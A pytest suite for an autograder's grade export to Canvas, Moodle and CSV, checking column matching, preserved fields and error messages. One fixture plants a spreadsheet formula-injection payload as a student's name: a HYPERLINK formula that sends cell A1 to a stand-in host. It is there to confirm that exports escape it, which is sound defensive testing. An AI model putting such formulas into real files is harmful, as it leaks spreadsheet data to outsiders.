"""An export has the gradebook's points in the one right column, and all else as the school wrote it."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest

from autograder.course.folder import Course
from autograder.course_systems.collected import Collected, Origin
from autograder.course_systems.feedback_zip import write_feedback_zip
from autograder.course_systems.school_file import rounded
from autograder.report.table import read_table
from tests.commands import autograder, nbgrader
from tests.course_systems.made_up import (
    CLASS,
    COLUMN,
    OTHER,
    fields_that_differ,
    gradebook_rows,
    worksheet_rows,
    write_csv,
)
from tests.report.made_up import make_up

pytestmark = pytest.mark.slow
EVIL = '=HYPERLINK("https://example.org/?"&A1;"click")'
ABSENT, WAITING, LATE = "jo1", "zoe", "lou"
PEOPLE = [(11, "Ada Lovelace", "ada"), (12, "Zoë M.", "zoe"), (13, "Jo", "jo1"), (14, "Jo", "jo2"), (15, "Lou", "lou")]


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """One handed in nothing, one waits for a mark by hand, one is late, one has a third of a point."""
    names = [(login, *name.split(", ")) for _, name, login in CLASS[:-1]]
    course = make_up(tmp_path_factory.mktemp("world") / "course", [*names, (LATE, EVIL, "Lou")], assignments=2)
    opened = Course(course)
    with opened.gradebook() as gradebook:
        for id, _, login in CLASS:
            gradebook.find_student(login).lms_user_id = id
            if login not in {one.student_id for one in gradebook.assignment_submissions("ps1")}:
                gradebook.add_submission("ps1", login)
        gradebook.remove_submission("ps1", ABSENT)
        for one in gradebook.assignment_submissions("ps1"):
            for grade in one.notebooks[0].grades:
                grade.auto_score, grade.needs_manual_grade = 1.0, False
        gradebook.find_grade("e0-small", "problem", "ps1", "ada").manual_score = 1 / 3
        gradebook.find_grade("e0-small", "problem", "ps1", WAITING).needs_manual_grade = True
        late = gradebook.find_submission("ps1", LATE)
        late.timestamp = late.assignment.duedate + timedelta(hours=3)
        late.notebooks[0].late_submission_penalty = 0.25
        gradebook.db.commit()
    with (course / "nbgrader_config.py").open("a") as config:  # penalties stay as they are written above
        config.write("c.Autograde.autograde_preprocessors = []\n")
    return course


@pytest.fixture
def course(made, tmp_path) -> Path:
    return shutil.copytree(made, tmp_path / "course")


def points(course: Path) -> dict[str, str]:
    """What every file should say: the table's points at two decimals."""
    table = read_table(Course(course), ["ps1"])
    found = {student: scores["ps1"] for student, scores in table.scores.items() if "ps1" in scores}
    return {student: f"{rounded(score.points)}" for student, score in found.items() if not score.needs_look}


def export(course: Path, system: str, path: Path, *arguments: str) -> tuple[Path, str]:
    """The filled file, and what was said."""
    done = autograder("export", system, str(path), "ps1", *arguments, cwd=course)
    assert done.returncode == 0, done.stderr
    return course / "export" / f"ps1-{system}.csv", done.stdout


FORMS = [
    {},
    {"separator": ";"},
    {"newline": "\r\n", "bom": True},
    {"separator": "\t", "newline": "\r\n"},
]


@pytest.mark.parametrize("how", FORMS)
@pytest.mark.parametrize("first", ["Student", "LastName"])
def test_canvas_gets_points_in_one_column_and_every_other_byte_stays(course, tmp_path, first, how):
    rows = gradebook_rows(first=first)
    rows[4][0] = 'Smith; Jo, "JJ"\nthe 2nd'
    path = write_csv(tmp_path / "canvas.csv", rows, **how)
    expected = points(course)

    filled, said = export(course, "canvas", path)

    at = rows[0].index(COLUMN)
    changed = {(3 + row, at): ("", expected[id]) for row, (_, _, id) in enumerate(CLASS) if id in expected}
    assert fields_that_differ(path, filled, how.get("separator", ",")) == changed and len(changed) == 3
    for row, column in changed:
        rows[row][column] = changed[row, column][1]
    assert filled.read_bytes() == write_csv(tmp_path / "expected.csv", rows, **how).read_bytes()
    assert f"{WAITING}: left as it was. The submission waits for a look" in said


def test_nbgraders_own_score_is_what_canvas_gets(course, tmp_path):
    filled, _ = export(course, "canvas", write_csv(tmp_path / "canvas.csv", gradebook_rows()))

    nbgrader("export", "--to", str(tmp_path / "nbgrader.csv"), cwd=course)
    own = {
        row["student_id"]: row
        for row in csv.DictReader((tmp_path / "nbgrader.csv").open())
        if row["assignment"] == "ps1"
    }
    for row in csv.DictReader(filled.open()):
        if row[COLUMN] not in ("", "Manual Posting", "6.00"):
            assert float(row[COLUMN]) == pytest.approx(float(own[row["SIS Login ID"]]["score"]), abs=0.005)
    assert float(own[LATE]["late_submission_penalty"]) == 0.25


def test_a_second_export_finds_everything_as_it_was(course, tmp_path):
    filled, _ = export(course, "canvas", write_csv(tmp_path / "canvas.csv", gradebook_rows()))
    again = tmp_path / "again.csv"
    shutil.copy(filled, again)

    filled, said = export(course, "canvas", again)

    assert filled.read_bytes() == again.read_bytes() and "(0 new, 3 as they were" in said


def test_points_that_are_written_otherwise_stay_as_they_are(course, tmp_path):
    rows = gradebook_rows()
    for row, (_, _, id) in enumerate(CLASS, 3):
        if id in points(course):
            rows[row][6] = f" {points(course)[id]}0 "
    path = write_csv(tmp_path / "canvas.csv", rows)

    filled, _ = export(course, "canvas", path)

    assert filled.read_bytes() == path.read_bytes()


@pytest.mark.parametrize("word", ["EX", "ex", "N/A", "A-"])
def test_words_in_place_of_points_stay(course, tmp_path, word):
    rows = gradebook_rows()
    rows[3][6] = word
    path = write_csv(tmp_path / "canvas.csv", rows)

    filled, said = export(course, "canvas", path)

    assert (3, 6) not in fields_that_differ(path, filled)
    assert f"ada: left as it was. Canvas has '{word}' there." in said


@pytest.mark.parametrize("separator", [";", ","])
def test_a_decimal_comma_is_kept(course, tmp_path, separator):
    rows = [[cell.replace("6.00", "6,00").replace("7.50", "7,50") for cell in row] for row in gradebook_rows()]
    path = write_csv(tmp_path / "canvas.csv", rows, separator)

    filled, _ = export(course, "canvas", path)

    assert (3, 6) in fields_that_differ(path, filled, separator)
    assert fields_that_differ(path, filled, separator)[3, 6][1] == points(course)["ada"].replace(".", ",")


def wrong_column(rows: list[list[str]], heading: str, at: int = 6) -> list[list[str]]:
    rows[0][at] = heading
    return rows


COLUMNS = {  # what is typed, the heading of both columns, what is said
    "no id": ((), "ps1", OTHER, "No column of "),
    "another title": ((), "Problem set (4711)", OTHER, f"is called 'ps1'; it has Problem set (4711), {OTHER}"),
    "two of one title": ((), COLUMN, "PS1 (4712)", "2 columns of "),
    "two of one id": (("--column", "4711"), COLUMN, "ps1 again (4711)", "2 columns of "),
    "an unknown id": (("--column", "4713"), COLUMN, OTHER, "Next step: name one of ps1 (4711)"),
    "nearly an id": (("--column", "ps1 (471)"), COLUMN, OTHER, "Did you mean ps1 (4711)?"),
    "a total": (("--column", "Final Score"), COLUMN, OTHER, "Canvas computes 'Final Score' itself"),
    "a total of a year": ((), "ps1 Final Score (2026)", OTHER, "No column of "),
}


@pytest.mark.parametrize("case", COLUMNS)
def test_a_column_that_is_not_certain_is_a_sentence(course, tmp_path, case):
    typed, first, second, said = COLUMNS[case]
    rows = wrong_column(wrong_column(gradebook_rows(), first), second, 7)
    path = write_csv(tmp_path / "canvas.csv", rows)

    done = autograder("export", "canvas", str(path), "ps1", *typed, cwd=course)

    assert done.returncode == 1 and said in done.stderr and len(done.stderr.splitlines()) == 1
    assert not list((course / "export").glob("*") if (course / "export").exists() else [])


def test_a_column_can_be_named_by_its_number(course, tmp_path):
    path = write_csv(tmp_path / "canvas.csv", gradebook_rows())

    filled, said = export(course, "canvas", path, "--column", "4712")

    assert {at for _, at in fields_that_differ(path, filled)} == {7}
    assert "Canvas gives at most 10.00 points, and ps1 has 6." in said


def test_a_column_that_is_read_only_is_not_written(course, tmp_path):
    rows = gradebook_rows()
    rows[2][6] = "(read only)"

    done = autograder("export", "canvas", str(write_csv(tmp_path / "c.csv", rows)), "ps1", cwd=course)

    assert "Canvas lets nobody write the column 'ps1 (4711)'" in done.stderr


def test_rows_of_strangers_stay_and_whoever_has_no_row_is_named(course, tmp_path):
    rows = gradebook_rows([*CLASS[1:], ("999", "Student, Test", "")])
    path = write_csv(tmp_path / "canvas.csv", rows)

    filled, said = export(course, "canvas", path)

    assert {row for row, _ in fields_that_differ(path, filled)} == {5, 6}
    assert "note: ada has points and no row in the file." in said
    assert "note: Test Student (999, S999) was not joined" in said


def test_moodle_gets_grades_and_every_other_field_stays(course, tmp_path):
    with Course(course).gradebook() as gradebook:
        for number, _, id in PEOPLE:
            gradebook.find_student(id).lms_user_id = f"N{number}"
        gradebook.db.commit()
    rows = worksheet_rows(PEOPLE)
    rows[4][7] = "No"
    path = write_csv(tmp_path / "moodle.csv", rows, bom=True, newline="\r\n")

    filled, said = export(course, "moodle", path)

    expected = points(course)
    changed = {(row, 5): ("", expected[PEOPLE[row - 1][2]]) for row in (1, 5)}
    assert fields_that_differ(path, filled) == changed
    assert (
        filled.read_bytes()
        .replace(f",{expected['ada']},6".encode(), b",,6")
        .replace(f",{expected[LATE]},6".encode(), b",,6")
        == path.read_bytes()
    )
    assert "jo2: left as it was. Moodle says that this grade cannot be changed." in said


WORKSHEETS = {  # what is changed in the worksheet, what is said
    "language": (0, 5, "Bewertung", "has no column 'Grade'"),
    "two": (0, 6, "Grade", "has 2 columns Grade"),
    "header": (0, 9, "Zuletzt geändert", "does not begin as a grading worksheet of Moodle does"),
    "scale": (None, 6, "Pass", "grades by 'Pass', not by points"),
}


@pytest.mark.parametrize("case", WORKSHEETS)
def test_another_worksheet_is_a_sentence(course, tmp_path, case):
    row, column, text, said = WORKSHEETS[case]
    rows = worksheet_rows(PEOPLE)
    for changed in [rows[row]] if row is not None else rows[1:]:
        changed[column] = text

    done = autograder("export", "moodle", str(write_csv(tmp_path / "m.csv", rows)), "ps1", cwd=course)

    assert done.returncode == 1 and said in done.stderr and "Next step: " in done.stderr


def test_more_points_than_moodle_takes_are_said(course, tmp_path):
    rows = worksheet_rows(PEOPLE)
    for row in rows[1:]:
        row[2], row[6] = "", "0,10"

    _, said = export(course, "moodle", write_csv(tmp_path / "m.csv", rows))

    assert "more than Moodle's maximum of 0.10" in said and "Moodle gives at most 0,10 points" in said


def test_the_worksheet_of_another_assignment_is_refused(course, tmp_path):
    rows = worksheet_rows(PEOPLE)
    for row in rows[1:]:
        row[2] = ""
    assert autograder("roster", "moodle", str(write_csv(tmp_path / "1.csv", rows)), "ps1", cwd=course).returncode == 0
    for row in rows[1:]:
        row[0] = row[0].replace("Participant 1", "Participant 2")

    done = autograder("export", "moodle", str(write_csv(tmp_path / "2.csv", rows)), "ps1", cwd=course)

    assert "has none of the participants' numbers of ps1" in done.stderr


def test_a_worksheet_without_names_is_joined_by_its_numbers(course, tmp_path):
    rows = worksheet_rows(PEOPLE)
    for row in rows[1:]:
        row[2] = ""
    assert autograder("roster", "moodle", str(write_csv(tmp_path / "1.csv", rows)), "ps1", cwd=course).returncode == 0
    hidden = [[cell for at, cell in enumerate(row) if at not in (1, 2, 3)] for row in rows]
    path = write_csv(tmp_path / "hidden.csv", hidden)

    filled, _ = export(course, "moodle", path)

    assert {value for _, value in fields_that_differ(path, filled).values()} == set(points(course).values())


def test_the_csv_has_every_exercise_and_computes_nothing(course):
    done = autograder("export", "csv", "ps1", cwd=course)

    assert done.returncode == 0
    text = (course / "export" / "grades.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {"ps1: e0", "ps1: e1", "ps1: late penalty"} <= rows[0].keys()
    assert {row["student"]: row["last name"] for row in rows}[LATE] == f"'{EVIL}"
    table = read_table(Course(course), ["ps1"]).scores
    found = {row["student"]: float(row["ps1: points"]) for row in rows if row["ps1: points"]}
    assert found == pytest.approx({id: scores["ps1"].points for id, scores in table.items() if "ps1" in scores})
    assert oct((course / "export").stat().st_mode)[-3:] == "700"


@pytest.mark.parametrize("kind", ["Canvas", "Moodle", "Csv"])
def test_nbgraders_own_command_exports_the_same(course, tmp_path, kind):
    path = write_csv(tmp_path / "c.csv", gradebook_rows() if kind == "Canvas" else worksheet_rows(PEOPLE))
    own = ["csv", "ps1"] if kind == "Csv" else [kind.lower(), str(path), "ps1"]
    assert autograder("export", *own, "--to", str(tmp_path / "ours.csv"), cwd=course).returncode == 0

    nbgrader(
        "export",
        f"--exporter=autograder.course_systems.exporters.{kind}Export",
        "--assignment=ps1",
        *([] if kind == "Csv" else [f"--{kind}Export.file={path}"]),
        "--to",
        str(tmp_path / "theirs.csv"),
        cwd=course,
    )

    assert (tmp_path / "theirs.csv").read_bytes() == (tmp_path / "ours.csv").read_bytes()


def test_nbgraders_own_command_exports_chosen_students(course, tmp_path):
    path = write_csv(tmp_path / "c.csv", gradebook_rows())

    nbgrader(
        "export",
        "--exporter=autograder.course_systems.exporters.CanvasExport",
        "--assignment=ps1",
        "--student=ada",
        f"--CanvasExport.file={path}",
        f"--to={tmp_path / 'to.csv'}",
        cwd=course,
    )

    assert fields_that_differ(path, tmp_path / "to.csv").keys() == {(3, 6)}


@pytest.mark.parametrize(
    "wrong",
    [
        "--CanvasExport.file=nowhere.csv",
        "--CanvasExport.column=9",
        "--assignment=ps3",
        "--assignment=[]",
        "--to=/dev/null/filled.csv",
    ],
)
def test_nbgraders_own_command_ends_with_a_sentence(course, tmp_path, wrong):
    path = write_csv(tmp_path / "c.csv", gradebook_rows())
    given = [f"--CanvasExport.file={path}", "--assignment=ps1"]
    given = [one for one in given if one.partition("=")[0] != wrong.partition("=")[0]]

    done = nbgrader(
        "export", "--exporter=autograder.course_systems.exporters.CanvasExport", *given, wrong, cwd=course, check=False
    )

    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert "Next step: " in done.stderr or "Did you mean " in done.stderr


def test_the_schools_own_file_is_not_overwritten(course, tmp_path):
    path = write_csv(tmp_path / "canvas.csv", gradebook_rows())
    before = path.read_bytes()

    done = autograder("export", "canvas", str(path), "ps1", "--to", str(path), cwd=course)

    assert "the school's own file, which stays as it is. Next step: name another with --to." in done.stderr
    assert path.read_bytes() == before


def test_a_folder_named_like_a_page_stops_nobodys_feedback(course):
    """What a student handed in lies beside the pages."""
    folder = course / "feedback" / "ada" / "ps1"
    (folder / "plots.html").mkdir(parents=True)
    (folder / "plots.html" / "one.png").write_bytes(b"")
    (folder / "problem.html").write_text("<p>well done</p>")
    ada = Collected(
        "canvas", {"problem.ipynb": Origin("lovelaceada_101_901_problem.ipynb", "lovelaceada_101_901_", "")}
    )

    done = write_feedback_zip(
        Course(course), "ps1", {"ada": ada}, course / "all.zip", {"ada"}, lambda done, total: None
    )

    assert done == (1, [])
    assert zipfile.ZipFile(course / "all.zip").namelist() == ["lovelaceada_101_901_problem.html"]
